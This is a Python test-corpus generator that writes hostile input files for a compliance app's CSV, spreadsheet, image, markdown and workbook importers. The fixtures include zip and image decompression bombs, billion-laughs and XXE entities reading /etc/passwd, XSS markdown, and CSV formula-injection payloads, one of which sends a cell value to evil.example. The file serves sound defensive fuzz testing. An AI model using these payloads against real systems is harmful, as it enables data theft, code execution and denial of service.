#!/usr/bin/env python3
"""Writes the generated part of the hostile-input corpus (files named gen-*).

Deterministic (fixed seeds, no clock), standard library only. Run from anywhere:
    python3 tests/corpus/generate.py
It first deletes the gen-* files in each target folder, so renamed cases do not linger.
Hand-made cases (hand-*) are never touched. tests/corpus.rs runs every file.

Folders, one per target:
  roster/  vendors/  risks/   CSV imports (people, vendors, risk register)
  policy/                     policy markdown: render and placeholder filling
  evidence/                   evidence files: attach, preview, binder images
  workbook/                   files given to Workbook::open
  access/                     access-review import (CSV and XLSX), run once that
                              importer is merged (see tests/corpus.rs)
"""

import os
import random
import sqlite3
import struct
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.normpath(os.path.join(HERE, "..", ".."))
MIGRATIONS = os.path.join(ROOT, "src-tauri", "core", "src", "workbook", "migrations")

HEADERS = {
    "roster": "Employee Name,Work Email,Job Title,Department,Employment Status,Hire Date,Termination Date",
    "vendors": "name,service,category,owner_email,website,data_classification,customer_data,access_level,"
    "criticality,tier_override,tier_override_reason,contract_start,contract_renewal,assurance,"
    "report_period_end,report_received,bridge_letter,opinion,dpa_signed,questionnaire_date,subservice,last_review",
    "risks": "title,description,category,owner_email,likelihood,impact,treatment,residual_likelihood,"
    "residual_impact,review_date",
    "access": "User,Email,Role,System,Last Login",
}
GOOD_ROW = {
    "roster": "Ada Quill,ada@example.com,Engineer,Engineering,Active,2023-04-01,",
    "vendors": "Cloud Host,Hosting,cloud_hosting,,https://example.com,,,,,,,2024-01-01,2026-01-01,,,,,,,,,2025-09-01",
    "risks": "Laptop theft,,security,,3,4,mitigate,2,2,2027-01-15",
    "access": "Ada Quill,ada@example.com,Admin,Cloud Host,2025-10-01",
}


def out(folder, name, data):
    path = os.path.join(HERE, folder, "gen-" + name)
    if isinstance(data, str):
        data = data.encode("utf-8")
    with open(path, "wb") as f:
        f.write(data)


def clean(folder):
    d = os.path.join(HERE, folder)
    os.makedirs(d, exist_ok=True)
    for n in os.listdir(d):
        if n.startswith("gen-"):
            os.remove(os.path.join(d, n))


# ---- CSV -----------------------------------------------------------------------------


def csv_cases(target, rng):
    h = HEADERS[target]
    g = GOOD_ROW[target]
    cols = h.count(",") + 1
    good = f"{h}\n{g}\n"
    cases = {
        "control-good.csv": good,
        "empty.csv": b"",
        "bom-only.csv": b"\xef\xbb\xbf",
        "whitespace-only.csv": " \n\t\r\n  \n",
        "header-only.csv": h + "\n",
        "delimiters-only.csv": ",,,,\n;;;\n",
        "utf16le-bom.csv": b"\xff\xfe" + good.encode("utf-16-le"),
        "utf16be-bom.csv": b"\xfe\xff" + good.encode("utf-16-be"),
        "utf32-bom.csv": b"\xff\xfe\x00\x00" + good.encode("utf-32-le"),
        "latin1.csv": (good + "Zo\xeb,zoe@example.com\n").encode("latin-1"),
        "malformed-utf8.csv": good.encode() + b"Bad \xc3\x28 row,\xff\xfe@example.com\n",
        "overlong-utf8.csv": good.encode() + b"\xc0\xaf\xe0\x80\xaf,x@example.com\n",
        "surrogate-utf8.csv": good.encode() + b"\xed\xa0\x80,x@example.com\n",
        "truncated-utf8.csv": good.encode() + "Zoë".encode()[:-1],
        "bom-mid-file.csv": h + "\n\ufeff" + g + "\n",
        "mixed-line-endings.csv": h + "\r\n" + g + "\n" + g.replace("Ada", "Bea").replace("ada@", "bea@") + "\r"
        + g.replace("Ada", "Cy").replace("ada@", "cy@") + "\r\n",
        "cr-only.csv": h + "\r" + g + "\r",
        "ragged-short.csv": h + "\n" + "only one cell\n" + g.split(",")[0] + ",x@example.com\n",
        "ragged-long.csv": h + "\n" + g + "," + ",".join(f"extra{i}" for i in range(500)) + "\n",
        "one-mb-single-line.csv": "A" * (1 << 20),
        "one-mb-header-cell.csv": "B" * (1 << 20) + "\n" + g + "\n",
        "one-mb-cell.csv": h + "\n" + g.replace(g.split(",")[0], "C" * (1 << 20), 1) + "\n",
        "hundred-k-columns-header.csv": ",".join(f"c{i}" for i in range(100_000)) + "\nx\n",
        "hundred-k-columns-header-many-rows.csv": ",".join(f"c{i}" for i in range(100_000))
        + "\n" + "x\n" * 5000,
        "wide-header-pad-bomb.csv": h + "," + ",".join(f"c{i}" for i in range(20_000)) + "\n" + (g + "\n") * 3000,
        "hundred-k-cells-row.csv": h + "\n" + g + "," + "z," * 100_000 + "\n",
        "nul-bytes.csv": (h + "\n" + g.replace("a", "\x00a", 3) + "\n"),
        "nul-only.csv": b"\x00" * 4096,
        "formula-injection.csv": h + "\n" + ",".join(
            ["=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
             "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "\t=1+1", "\r=1+1"][: max(cols, 1)]
            + [""] * max(0, cols - 7)) + "\n" + g + "\n",
        "formula-in-every-cell.csv": h + "\n" + ",".join(["=1+2"] * cols) + "\n",
        "unbalanced-quote.csv": h + "\n\"" + g + "\n" + g + "\n",
        "quote-in-unquoted-field.csv": h + "\n" + g.replace(",", ",ab\"cd", 1) + "\n",
        "quoted-multiline-10k.csv": h + "\n\"" + "line\n" * 10_000 + "\"," + ",".join(g.split(",")[1:]) + "\n",
        "rtl-cjk.csv": h + "\n" + g.replace("Ada Quill", "עדה קוויל", 1).replace("Laptop theft", "盗难 ノートPC", 1)
        .replace("Cloud Host", "مضيف سحابي", 1) + "\n",
        "bidi-override.csv": h + "\n" + g.replace(",", ",\u202etxt.exe\u202c", 1) + "\n",
        "zero-width-and-combining.csv": h + "\n" + g.replace("a", "a\u200d\u0301\u0301\u0301", 2) + "\n",
        "emoji.csv": h + "\n" + g.replace("a", "\U0001F600", 2) + "\n",
        "ansi-escapes.csv": h + "\n" + g.replace(",", ",\x1b[31mRED\x1b[0m\x07", 1) + "\n",
        "semicolon-delimited.csv": h.replace(",", ";") + "\n" + g.replace(",", ";") + "\n",
        "tab-delimited.csv": h.replace(",", "\t") + "\n" + g.replace(",", "\t") + "\n",
        "duplicate-header-names.csv": h + "," + h + "\n" + g + "," + g + "\n",
        "long-header-names.csv": ",".join(x * 200 for x in h.split(",")) + "\n" + g + "\n",
        "random-binary.csv": bytes(rng.getrandbits(8) for _ in range(65536)),
        "random-printable.csv": "".join(rng.choice("abc,;\t\"\n\r 123@.-=") for _ in range(65536)),
        "weird-dates.csv": h + "\n" + "\n".join(
            g.replace("2023-04-01", d).replace("2027-01-15", d).replace("2024-01-01", d).replace("2025-09-01", d)
            for d in ["9999-12-31", "0000-01-01", "-2024-01-01", "2024-02-30", "1e10", "99999999999999999999",
                      "2024-13-45", "31/12/2024", "12/31/24", "٢٠٢٤-٠١-٠١", "2024‐01‐01", "NaN"]) + "\n",
        "weird-numbers.csv": h + "\n" + "\n".join(
            g.replace(",3,4,", f",{n},{n},") for n in ["1e309", "-0", "255", "256", "٣", "3.0", "0x3", " 3 ", "+3",
                                                         "18446744073709551616"]) + "\n",
        "weird-emails.csv": h + "\n" + "\n".join(
            g.replace("ada@example.com", e).replace(",,3,4", f",{e},3,4") for e in
            ["a@b", "@", "\"a b\"@example.com", "a" * 10_000 + "@example.com", "ADA@EXAMPLE.COM", "a@@b.c",
             "a@b..c", "<script>@x.y"]) + "\n",
        "same-row-10k-times.csv": h + "\n" + (g + "\n") * 10_000,
        "rows-over-limit.csv": h + "\n" + "x\n" * 100_001,
        "many-blank-lines.csv": "\n" * 200_000 + h + "\n" + g + "\n",
    }
    # A large but acceptable table: distinct rows, each imported (5,000 keeps the debug
    # test run short; 100,000-row imports are timed by the performance suite).
    rows = [h]
    for i in range(5_000):
        rows.append(g.replace("Ada Quill", f"Person {i}").replace("ada@", f"p{i}@")
                    .replace("Cloud Host", f"Vendor {i}").replace("Laptop theft", f"Risk {i}"))
    cases["huge-table-5k.csv"] = "\n".join(rows) + "\n"
    for name, data in cases.items():
        out(target, name, data)
    # Seeded mutations of the good file: flipped, inserted and deleted bytes.
    base = bytearray(good.encode())
    for i in range(12):
        b = bytearray(base)
        for _ in range(1 + i):
            op = rng.randrange(3)
            pos = rng.randrange(len(b))
            if op == 0:
                b[pos] ^= 1 << rng.randrange(8)
            elif op == 1:
                b[pos:pos] = bytes([rng.choice([0, 0x22, 0x2C, 0x0A, 0x0D, 0xFF, 0xC3, 0x3B])])
            elif len(b) > 1:
                del b[pos]
        out(target, f"mutation-{i:02}.csv", bytes(b))


# ---- ZIP building (for XLSX/DOCX bombs) ------------------------------------------------


def deflate_repeated(head, unit, repeats, tail):
    """Raw deflate of head + unit*repeats + tail without holding it in memory, plus crc32
    and size. Each part ends on a full flush, so the unit's compressed bytes repeat."""
    def part(data, final=False):
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        return c.compress(data) + (c.flush() if final else c.flush(zlib.Z_FULL_FLUSH))

    seg = part(unit)
    crc = zlib.crc32(head)
    for _ in range(repeats):
        crc = zlib.crc32(unit, crc)
    crc = zlib.crc32(tail, crc)
    data = part(head) + seg * repeats + part(tail, final=True)
    return data, crc & 0xFFFFFFFF, len(head) + len(unit) * repeats + len(tail)


def zip_bytes(entries, lie_sizes=False):
    """entries: list of (name, raw_deflate_or_None_for_stored, crc, size, stored_bytes)."""
    body = bytearray()
    central = bytearray()
    for name, comp, crc, size, stored in entries:
        name_b = name.encode()
        method = 8 if comp is not None else 0
        data = comp if comp is not None else stored
        usize = 1000 if lie_sizes else size
        off = len(body)
        body += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc, len(data), usize, len(name_b), 0)
        body += name_b + data
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x21, crc, len(data), usize,
                               len(name_b), 0, 0, 0, 0, 0, off)
        central += name_b
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), len(body), 0)
    return bytes(body + central + eocd)


def stored(name, data):
    data = data.encode() if isinstance(data, str) else data
    return (name, None, zlib.crc32(data) & 0xFFFFFFFF, len(data), data)


def deflated(name, data):
    data = data.encode() if isinstance(data, str) else data
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return (name, c.compress(data) + c.flush(), zlib.crc32(data) & 0xFFFFFFFF, len(data), None)


XLSX_PARTS = [
    stored("[Content_Types].xml",
           '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
           '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
           '<Default Extension="xml" ContentType="application/xml"/>'
           '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
           'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
           'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'),
    stored("_rels/.rels",
           '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
           '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
           'officeDocument" Target="xl/workbook.xml"/></Relationships>'),
    stored("xl/workbook.xml",
           '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
           'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
           '<sheet name="Access" sheetId="1" r:id="rId1"/></sheets></workbook>'),
    stored("xl/_rels/workbook.xml.rels",
           '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
           '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
           'worksheet" Target="worksheets/sheet1.xml"/></Relationships>'),
]
SHEET_HEAD = (b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
              b'<sheetData>')
SHEET_TAIL = b"</sheetData></worksheet>"


def sheet(rows_xml):
    return SHEET_HEAD + rows_xml.encode() + SHEET_TAIL


def xlsx(sheet_entry, extra=()):
    return zip_bytes(XLSX_PARTS + list(extra) + [sheet_entry])


def bomb_sheet_entry(mib, rows=False):
    """A worksheet that inflates to `mib` MiB: of real rows (compresses ~350:1) or of
    whitespace between two rows (~1000:1), which a parser must still read through."""
    if rows:
        unit = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>' * 20_560  # ~1 MiB
    else:
        unit = b" " * (1 << 20)
    data, crc, size = deflate_repeated(SHEET_HEAD + b'<row r="1"><c r="A1"><v>1</v></c></row>', unit, mib,
                                       b'<row r="2"><c r="A2"><v>2</v></c></row>' + SHEET_TAIL)
    return ("xl/worksheets/sheet1.xml", data, crc, size, None)


def zip_cases(rng):
    """XLSX/DOCX/ZIP bombs and damaged archives, shared by evidence/ and access/."""
    cases = {}
    cases["zip-bomb-2gib.xlsx"] = xlsx(bomb_sheet_entry(2048))
    cases["zip-bomb-rows-256mib.xlsx"] = xlsx(bomb_sheet_entry(256, rows=True))
    zeros, crc, size = deflate_repeated(b"", b"\0" * (1 << 20), 2048, b"")
    cases["zip-bomb-2gib.docx"] = zip_bytes([stored("[Content_Types].xml", "<Types/>"),
                                            ("word/document.xml", zeros, crc, size, None)])
    # Many central-directory entries sharing one compressed body: tiny file, 16 GiB out.
    z16, c16, s16 = deflate_repeated(b"", b"\0" * (1 << 20), 16, b"")
    body = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, c16, len(z16), s16, 5, 0) + b"a.bin" + z16
    central = bytearray()
    for i in range(1024):
        n = f"f{i:04}.bin".encode()
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, c16, len(z16), s16, len(n),
                               0, 0, 0, 0, 0, 0) + n
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1024, 1024, len(central), len(body), 0)
    cases["overlapping-entries-16gib.zip"] = body + bytes(central) + eocd
    z256, c256, s256 = deflate_repeated(b"", b"\0" * (1 << 20), 256, b"")
    inner = zip_bytes([("zeros.bin", z256, c256, s256, None)])
    cases["nested-zip.zip"] = zip_bytes([stored(f"inner{i}.zip", inner) for i in range(4)])
    cases["lying-sizes.xlsx"] = zip_bytes(XLSX_PARTS + [bomb_sheet_entry(512)], lie_sizes=True)
    good = xlsx(deflated("xl/worksheets/sheet1.xml", sheet(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>User</t></is></c><c r="B1" t="inlineStr"><is><t>Email</t></is>'
        '</c></row><row r="2"><c r="A2" t="inlineStr"><is><t>Ada</t></is></c><c r="B2" t="inlineStr"><is>'
        '<t>ada@example.com</t></is></c></row>')))
    cases["control-good.xlsx"] = good
    cases["truncated-half.xlsx"] = good[: len(good) // 2]
    cases["truncated-no-eocd.xlsx"] = good[:-22]
    cases["not-a-zip.xlsx"] = b"PK\x03\x04" + bytes(rng.getrandbits(8) for _ in range(4096))
    cases["csv-named-xlsx.xlsx"] = b"User,Email\nAda,ada@example.com\n"
    cases["huge-dimension.xlsx"] = xlsx(deflated("xl/worksheets/sheet1.xml", SHEET_HEAD.replace(
        b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>') + b'<row r="1048576"><c r="XFD1048576">'
        b"<v>1</v></c></row>" + SHEET_TAIL))
    cases["billion-laughs.xlsx"] = xlsx(deflated("xl/worksheets/sheet1.xml",
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
        + ']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
        '<c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>'))
    cases["xxe-file.xlsx"] = xlsx(deflated("xl/worksheets/sheet1.xml",
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><worksheet '
        'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" '
        't="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>'))
    cases["deep-xml.xlsx"] = xlsx(deflated("xl/worksheets/sheet1.xml", SHEET_HEAD + b"<x>" * 100_000
                                           + b"</x>" * 100_000 + SHEET_TAIL))
    cases["shared-strings-bomb.xlsx"] = xlsx(
        ("xl/worksheets/sheet1.xml",) + deflated("x", sheet("".join(
            f'<row r="{r}"><c r="A{r}" t="s"><v>0</v></c></row>' for r in range(1, 20_001))))[1:],
        extra=[deflate_entry_named("xl/sharedStrings.xml", *deflate_repeated(
            b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>',
            b"A" * (1 << 20), 512, b"</t></si></sst>"))])
    return cases


def deflate_entry_named(name, data, crc, size):
    return (name, data, crc, size, None)


# ---- Images ------------------------------------------------------------------------------


def png_chunk(kind, body):
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)


def png(w, h, idat, color=2, depth=8):
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, depth, color, 0, 0, 0))
            + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b""))


def zlib_of_zeros(n_mib):
    raw, crc, size = deflate_repeated(b"", b"\0" * (1 << 20), n_mib, b"")
    adler = 1  # adler32 of zeros: s1 stays 1, s2 = n mod 65521
    s2 = (size % 65521)
    adler = (s2 << 16) | 1
    return b"\x78\xda" + raw + struct.pack(">I", adler)


def jpeg_sof(w, h):
    return (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
            b"\xff\xc0\x00\x11\x08" + struct.pack(">HH", h, w) + b"\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"
            b"\xff\xda\x00\x0c\x03\x01\x00\x02\x11\x03\x11\x00\x3f\x00" + b"\x00" * 64 + b"\xff\xd9")


def evidence_cases(rng):
    small = zlib.compress(b"\0" * (3 * 4 + 1) * 4)
    cases = {
        "png-bomb-100000x100000.png": png(100_000, 100_000, small),
        "png-bomb-65535x65535.png": png(65_535, 65_535, small),
        "png-idat-bomb-1gib.png": png(1000, 1000, zlib_of_zeros(1024)),
        "png-max-pixels-7000x7000.png": png(7000, 7000, zlib_of_zeros(140)),
        "png-zero-size.png": png(0, 0, small),
        "png-bad-crc.png": png(4, 4, small)[:-5] + b"\x00\x00\x00\x00\x00",
        "png-16bit-rgba.png": png(4, 4, zlib.compress(b"\0" * (4 * 8 + 1) * 4), color=6, depth=16),
        "png-truncated.png": png(64, 64, zlib.compress(b"\1" * (64 * 3 + 1) * 64))[:80],
        "png-header-only.png": b"\x89PNG\r\n\x1a\n",
        "jpeg-bomb-65500x65500.jpg": jpeg_sof(65_500, 65_500),
        "jpeg-truncated.jpg": jpeg_sof(100, 100)[:30],
        "jpeg-soi-only.jpg": b"\xff\xd8",
        "gif-huge.gif": b"GIF89a" + struct.pack("<HH", 65535, 65535) + b"\x00\x00\x00;",
        "webp-garbage.webp": b"RIFF\xff\xff\xff\xffWEBPVP8 " + bytes(rng.getrandbits(8) for _ in range(256)),
        "pdf-truncated.pdf": b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj <<",
        "pdf-huge-length.pdf": b"%PDF-1.4\n1 0 obj << /Length 99999999999 >>\nstream\nabc\nendstream endobj\n%%EOF",
        "empty.png": b"",
        "empty.txt": b"",
        "random.bin": bytes(rng.getrandbits(8) for _ in range(65536)),
        "one-mb-single-line.txt": "x" * (1 << 20),
        "malformed-utf8.txt": b"ok \xc3\x28 \xff\xfe \xed\xa0\x80 end\n" * 100,
        "utf16-bom.csv": b"\xff\xfe" + "a,b\n1,2\n".encode("utf-16-le"),
        "nul-bytes.md": b"# Title\n\x00\x00\x00 body\n",
        "deep-nesting.json": "[" * 100_000 + "]" * 100_000,
        "rtl-cjk.txt": "שלום עולם مرحبا بالعالم 你好世界 こんにちは 안녕하세요\n" * 1000,
        "bidi-name-\u202egpj.exe": b"MZ" + bytes(64),
        "text-named-png.png": b"this is not a png\n",
        "png-named-txt.txt": png(2, 2, zlib.compress(b"\0" * 7 * 2)),
        "pdf-named-docx.docx": b"%PDF-1.4\n%%EOF\n",
    }
    for name, data in zip_cases(rng).items():
        if name.endswith((".xlsx", ".docx", ".zip")):
            cases[name] = data
    return cases


# ---- Policy markdown ------------------------------------------------------------------


def policy_cases(rng):
    table_head = "| " + " | ".join(f"h{i}" for i in range(100)) + " |\n|" + "---|" * 100 + "\n"
    return {
        "control.md": "# Access Control Policy\n\n{{org.name}} reviews access {{settings.access_review_frequency}}.\n",
        "nested-quotes-10k.md": ">" * 10_000 + " deep\n",
        "nested-quotes-lines.md": "".join(">" * i + " q\n" for i in range(1, 2000)),
        "nested-lists-50k.md": "- " * 50_000 + "item\n",
        "nested-ordered-lists.md": "1. " * 20_000 + "item\n",
        "nested-emphasis.md": "*" * 20_000 + "x" + "*" * 20_000 + "\n",
        "nested-brackets.md": "[" * 20_000 + "x" + "](y)" * 20_000 + "\n",
        "backticks-100k.md": "`" * 100_000 + "\n",
        "huge-table.md": table_head + ("| " + " | ".join("cell" for _ in range(100)) + " |\n") * 2000,
        "table-50k-columns.md": "|" + "a|" * 50_000 + "\n|" + "-|" * 50_000 + "\n|" + "b|" * 50_000 + "\n",
        "headings-100k.md": "# h\n" * 100_000,
        "hash-run.md": "#" * 100_000 + " x\n",
        "link-refs-10k.md": "".join(f"[r{i}]: https://example.com/{i}\n" for i in range(10_000))
        + "".join(f"[r{i}] " for i in range(10_000)),
        "raw-html.md": "<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n<iframe src='https://evil'></iframe>\n"
        "[js](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) ![remote](https://evil/x.png)\n"
        "<a href=\"javascript:alert(1)\">x</a> [vb](vbscript:msgbox) [file](file:///etc/passwd)\n",
        "entities.md": "&#0; &#xD800; &#x110000; &#99999999999; &nbsp;&lt;script&gt; &bogus;\n",
        "one-mb-line.md": "word " * 200_000,
        "nul-bytes.md": "# T\x00itle\n\x00\x00 body {{org.\x00name}}\n",
        "rtl-cjk.md": "# מדיניות גישה\n\n## سياسة\n\n### 访问控制政策\n\n{{org.name}} は四半期ごとに見直します。\n",
        "bidi-controls.md": "# \u202eyciloP\u202c\n\n\u2066{{org.name}}\u2069 \u200f\u200e\n",
        "placeholder-flood.md": "{{org.name}} " * 100_000,
        "placeholder-unterminated-many.md": "{{" * 200_000,
        "placeholder-huge-name.md": "{{" + "a" * (1 << 20) + "}}",
        "placeholder-nested.md": "{{{{org.name}}}} {{ {{org.name}} }} {{org.name}}}} }}{{\n",
        "placeholder-unicode.md": "{{org.nаme}} {{ørg.name}} {{org.name\u200b}} {{組織.名前}}\n",
        "placeholder-injection.md": "{{org.name}}<script>{{role.security_owner}}</script>[x](javascript:{{org.name}})\n",
        "code-fence-unclosed.md": "```\n" + "code\n" * 50_000,
        "setext-mass.md": "x\n=\n" * 50_000,
        "html-comment-unclosed.md": "<!--" + " x" * 100_000,
        "many-footnote-like.md": "".join(f"[^{i}] " for i in range(50_000)),
        "random-printable.md": "".join(rng.choice("#>*-_`[](){}|!\n 1.\\<&") for _ in range(200_000)),
        "crlf-and-cr.md": "# A\r\n\r\n- b\r- c\r\n> d\r",
    }


# ---- Workbook files --------------------------------------------------------------------


def sqlite_file(path, setup):
    if os.path.exists(path):
        os.remove(path)
    conn = sqlite3.connect(path)
    setup(conn)
    conn.commit()
    conn.close()
    with open(path, "rb") as f:
        data = f.read()
    os.remove(path)
    return data


def our_tables(conn):
    for name in sorted(os.listdir(MIGRATIONS)):
        if name.endswith(".sql"):
            with open(os.path.join(MIGRATIONS, name)) as f:
                conn.executescript(f.read())
    conn.execute("PRAGMA application_id = 1381450289")  # 0x52574231, "RWB1"
    conn.execute("PRAGMA user_version = 9999")


def workbook_cases(rng, tmp):
    foreign = sqlite_file(tmp, lambda c: c.executescript(
        "CREATE TABLE contacts (id INTEGER PRIMARY KEY, name TEXT); INSERT INTO contacts (name) VALUES ('x');"))
    ours = sqlite_file(tmp, our_tables)
    rand4096 = bytes(rng.getrandbits(8) for _ in range(4096))
    cases = {
        "empty.soc2wb": b"",
        "one-byte.soc2wb": b"\0",
        "fifteen-bytes.soc2wb": bytes(15),
        "random-4096.soc2wb": rand4096,
        "random-4097.soc2wb": rand4096 + b"\0",
        "random-64k.soc2wb": bytes(rng.getrandbits(8) for _ in range(65536)),
        "zeros-8192.soc2wb": bytes(8192),
        "text.soc2wb": "This is a text file, not a workbook.\n" * 200,
        "foreign-sqlite.soc2wb": foreign,
        "plain-sqlite-our-tables.soc2wb": ours,
        "plain-sqlite-truncated.soc2wb": ours[: len(ours) // 2],
        "plain-sqlite-header-only.soc2wb": b"SQLite format 3\0" + bytes(4080),
        "sqlite-magic-short.soc2wb": b"SQLite format 3\0",
        "png-renamed.soc2wb": png(8, 8, zlib.compress(b"\0" * 25 * 8)).ljust(4096, b"\0"),
        "pdf-renamed.soc2wb": b"%PDF-1.4\n%%EOF\n".ljust(8192, b" "),
        "zip-renamed.soc2wb": zip_bytes([stored("a.txt", "hello")]).ljust(4096, b"\0"),
        "salt-then-zeros.soc2wb": rand4096[:16] + bytes(4096 * 4 - 16),
        "salt-then-ff.soc2wb": rand4096[:16] + b"\xff" * (4096 * 2 - 16),
    }
    return cases


def main():
    rng = random.Random(20261128)
    for target in ["roster", "vendors", "risks", "access"]:
        clean(target)
        csv_cases(target, rng)
    for name, data in zip_cases(rng).items():
        out("access", name, data)
    clean("evidence")
    for name, data in evidence_cases(rng).items():
        out("evidence", name, data)
    clean("policy")
    for name, data in policy_cases(rng).items():
        out("policy", name, data)
    clean("workbook")
    for name, data in workbook_cases(rng, os.path.join(HERE, ".tmp-gen.sqlite")).items():
        out("workbook", name, data)
    total = sum(len([n for n in os.listdir(os.path.join(HERE, d)) if n.startswith("gen-")])
                for d in ["roster", "vendors", "risks", "access", "evidence", "policy", "workbook"])
    print(f"wrote {total} generated files under {HERE}")


if __name__ == "__main__":
    main()
